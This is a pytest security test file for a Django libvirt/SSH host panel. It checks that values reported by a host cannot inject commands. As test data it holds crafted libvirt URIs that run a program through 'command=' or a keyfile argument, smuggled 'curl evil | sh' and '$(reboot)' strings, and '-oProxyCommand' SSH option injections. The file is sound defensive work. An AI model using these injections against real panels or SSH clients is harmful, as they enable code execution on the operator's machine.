"""What a host says reaches no URI, no path and no command line of the panel's machine."""

import base64
import json
import subprocess
import sys
from pathlib import Path

import pytest
from django.apps import apps as registry
from django.db import connection
from django.db.migrations.executor import MigrationExecutor

from hosts.models import Finding, Host
from hosts.rules.placement import needs
from hosts.services.machines import add_host, remove_host
from labpanel.adapters.errors import AdapterError, Refused
from labpanel.adapters.libvirt.child_process import ChildProcess
from labpanel.adapters.looks import host_facts
from labpanel.adapters.ssh import host_key, machine
from labpanel.adapters.ssh.host_key import HostKey
from labpanel.adapters.ssh.machine import Machine, Output
from labpanel.adapters.ssh.openssh import Channel
from labpanel.lib.shapes import Endpoint, LibvirtSocket
from tests.fakes import host_facts as made
from tests.services.looked import NOW, Ground

pytestmark = pytest.mark.django_db
# libvirt runs what `command` names, and hands `keyfile` on to it (its docs/uri.rst).
CRAFTED = (
    "qemu+ext:///system?command={program}",
    "qemu+ssh://x/system?command=/usr/bin/env&keyfile=-Sbash%20-c%20%22{program}%22",
    "/run/libvirt/libvirt-sock&command={program}",
    "/run/libvirt/libvirt-sock?command={program}",
    "test:///default",
    "test+ext:///default?command={program}",
    "/run/libvirt/../libvirt/libvirt-sock",
    "/run/libvirt/libvirt-sock\n",
    " /run/libvirt/libvirt-sock",
    "",
)


@pytest.fixture
def program(tmp_path: Path) -> Path:
    """A program that leaves a trace if anything runs it."""
    path = tmp_path / "pwn"
    path.write_text(f"#!/bin/sh\nid > {tmp_path}/pwned\n")
    path.chmod(0o755)
    return path


@pytest.fixture
def answers(monkeypatch: pytest.MonkeyPatch) -> dict[str, object]:
    """What the host says of itself over SSH; libvirt is the real adapter."""
    said = made.said()

    def run(self: Machine, words: object, **_: object) -> Output:
        return Output(0, json.dumps(said).encode(), b"")

    monkeypatch.setattr(machine.Machine, "run", run)
    return said


@pytest.mark.parametrize("form", CRAFTED)
def test_a_crafted_libvirt_socket_runs_nothing_when_a_host_is_added(
    form: str, program: Path, answers: dict[str, object]
) -> None:
    word = form.format(program=program)
    answers["tools"] = made.tools(libvirt_socket=word)
    key = HostKey("ssh-ed25519 " + base64.b64encode(b"a key").decode())
    # At a port where nothing listens: what would be run is run on this machine.
    host = add_host.add(add_host.check("evil", "root@127.0.0.1:1"), key, key.fingerprint)
    assert host.libvirt_socket in set(LibvirtSocket)
    assert not (program.parent / "pwned").exists()
    told = Finding.objects.filter(host=host, kind="answer", subject="facts", resolved_at=None)
    assert told.exists() is bool(word)
    remove_host.remove(host)


@pytest.mark.parametrize("form", CRAFTED)
def test_a_crafted_libvirt_socket_of_an_old_row_runs_nothing(form: str, program: Path) -> None:
    row = Host.objects.create(name="old", target="local")
    Host.objects.filter(pk=row.pk).update(libvirt_socket=form.format(program=program))
    endpoint = Host.objects.get(pk=row.pk).endpoint()
    assert endpoint.libvirt_socket is LibvirtSocket.LIBVIRTD
    assert ChildProcess(endpoint).uri() == "qemu+unix:///system?socket=/run/libvirt/libvirt-sock"
    assert not (program.parent / "pwned").exists()


@pytest.mark.django_db(transaction=True)
def test_odd_rows_are_reset_when_the_panel_is_upgraded() -> None:
    executor = MigrationExecutor(connection)
    old = executor.migrate([("hosts", "0004_drives_of_smart")]).apps
    hosts = old.get_model("hosts", "Host").objects
    try:
        for number, form in enumerate((*CRAFTED, *LibvirtSocket)):
            word = form.format(program="/bin/true")
            hosts.create(name=f"h{number}", target=f"root@h{number}", libvirt_socket=word)
    finally:
        after = MigrationExecutor(connection)
        after.migrate(after.loader.graph.leaf_nodes())
    kept = sorted(Host.objects.values_list("libvirt_socket", flat=True))
    assert kept == ["/run/libvirt/libvirt-sock"] * (len(CRAFTED) + 1) + [
        "/run/libvirt/virtqemud-sock"
    ]
    assert registry.get_model("hosts", "Host") is Host
    Host.objects.all().delete()


@pytest.mark.parametrize(
    "changes",
    [
        {"libvirt_daemon": "libvirtd; curl evil | sh", "libvirt_socket": ""},
        {"user": "root; curl evil | sh", "libvirt_allowed": False},
        {"user": "$(reboot)", "libvirt_allowed": False},
        {"user": "-rf", "libvirt_allowed": False},
        {"user": "a\nb", "libvirt_allowed": False},
    ],
)
def test_no_word_of_a_host_stands_in_a_command_to_be_pasted(changes: dict[str, object]) -> None:
    try:
        facts = host_facts.read(made.said(tools=made.tools(**changes)))
    except ValueError:
        return
    commands = [lack["command"] for lack in needs.missing(facts.tools)]
    assert not any(sign in command for command in commands for sign in (";", "|", "(", "-rf", "\n"))


@pytest.mark.parametrize(
    "path",
    [
        "/run/x:localhost:22",
        "2222:localhost:22",
        "/run/${SSH_AUTH_SOCK}",
        "/run/%h",
        "/run/../etc/x",
        "relative",
        "/run/a\nb",
        "/run/a b",
        "-oProxyCommand=x",
        "",
    ],
)
def test_a_socket_s_path_from_a_host_is_no_forward_of_another_kind(path: str) -> None:
    there = Machine(Endpoint("alpha", "root@127.0.0.1:1", "ssh-ed25519 AAAA"))
    with pytest.raises(Refused, match="is not a path of a socket on alpha"):
        there.forward_to(Path("/tmp/here"), path)
    with pytest.raises(Refused, match="is not a path of a socket on alpha"):
        there.forward_from(path, Path("/tmp/here"))


@pytest.mark.parametrize(
    ("target", "key"),
    [
        ("-oProxyCommand=touch pwned", ""),
        ("root@-oProxyCommand=x", ""),
        ("root@host -oProxyCommand=x", ""),
        ("root@host", "ssh-ed25519 AAAA\n* ssh-ed25519 BBBB"),
        ("root@host", "@cert-authority * ssh-ed25519 AAAA"),
        ("root@host", "ssh-dss AAAA"),
    ],
)
def test_an_odd_address_or_key_of_an_old_row_never_reaches_ssh(target: str, key: str) -> None:
    endpoint = Endpoint("old", target, key)
    with pytest.raises(Refused, match="remove the host and add it again"):
        Channel(endpoint).command("-T")
    host = Host.objects.create(name="old", target=target, host_key=key)
    remove_host.remove(host)


def test_a_scanned_key_is_base64_or_none(monkeypatch: pytest.MonkeyPatch) -> None:
    lines = "h ssh-ed25519 AAA%\nh ssh-rsa " + "A" * 5000 + "\nh ecdsa-sha2-nistp256 AAAA\nh x y z"
    assert host_key._keys(lines) == {"ecdsa-sha2-nistp256": "AAAA"}


@pytest.mark.parametrize(
    "said",
    [
        "[]",
        "null",
        "{}",
        "NaN",
        "[" * 100_000,
        json.dumps(made.said(mounts={})),
        json.dumps(made.said(tools=[])),
        json.dumps(made.said(drives=[made.drive("sda")] * 5000)),
        '{"mounts":' + "9" * 5000 + "}",
    ],
)
def test_an_answer_of_another_shape_is_one_sentence(
    said: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    def run(self: Machine, words: object, **_: object) -> Output:
        return Output(0, said.encode(), b"")

    monkeypatch.setattr(Machine, "run", run)
    with pytest.raises(AdapterError) as refused:
        host_facts.look(Machine(Endpoint("alpha", "root@alpha")))
    assert "alpha" in refused.value.sentence
    assert len(refused.value.sentence) < 300


def test_one_odd_drive_or_mount_never_ends_the_look_at_the_others(ground: Ground) -> None:
    odd_drives = [
        made.drive("sdc", size="big"),
        made.drive("sdd", size=2**70),
        made.drive("sde", serial="x\x1b[2J"),
        made.drive("../sdf"),
        "nothing",
    ]
    odd_mounts = [
        made.mount("/odd", "sda2", "sda", space={"size": -1, "used": 0, "available": 0}),
        made.mount("relative", "sda3", "sda"),
        made.mount("/deep", *["dm-0"] * 500),
        {},
    ]
    ground.machine.said["drives"] += odd_drives
    ground.machine.said["mounts"] += odd_mounts
    host = ground.look(ground.alpha)
    assert sorted(host.physical_disks.values_list("device", flat=True)) == ["/dev/sda", "/dev/sdb"]
    assert sorted(host.file_systems.values_list("mount_point", flat=True)) == ["/", "/srv/images"]
    finding = Finding.objects.get(host=host, kind="answer")
    assert finding.sentence == (
        "The file system /odd of alpha gave an answer that makes no sense: its size "
        "space is outside of what there can be. 8 more answers make no sense."
    )
    said = [item["value"] for item in finding.evidence]
    assert (
        "The drive sdc of alpha gave an answer that makes no sense: its size is not a whole "
        in (said[4])
    )
    ground.machine.said = made.said()
    ground.look(ground.alpha, NOW.replace(minute=30))
    finding.refresh_from_db()
    assert finding.resolved_at is not None


def test_libvirt_itself_would_have_run_it(program: Path) -> None:
    """The attack works on the installed libvirt: the tests above are not about nothing."""
    words = [sys.executable, "-c", "import libvirt,sys; libvirt.open(sys.argv[1])"]
    uri = CRAFTED[0].format(program=program)
    done = subprocess.run([*words, uri], capture_output=True, timeout=60, check=False)
    if b"No module named" in done.stderr:
        pytest.skip("not installed here: python3-libvirt")
    assert (program.parent / "pwned").exists()
